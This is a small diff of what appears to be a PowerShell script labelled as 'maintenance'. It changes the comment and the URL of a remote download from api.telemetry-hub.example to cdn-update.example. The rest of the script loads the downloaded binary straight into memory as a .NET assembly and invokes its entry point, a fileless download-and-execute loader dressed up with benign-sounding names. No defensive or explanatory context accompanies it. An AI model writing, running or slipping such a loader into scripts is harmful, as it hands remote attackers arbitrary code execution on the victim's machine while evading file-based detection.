@@ -1,4 +1,4 @@
-# run 7570 v1
-$b = (New-Object Net.WebClient).DownloadData('http://api.telemetry-hub.example/loader.bin')
+# maintenance 8513 v1
+$b = (New-Object Net.WebClient).DownloadData('http://cdn-update.example/loader.bin')
 $a = [System.Reflection.Assembly]::Load($b)
 $a.EntryPoint.Invoke($null, (, [string[]] @()))
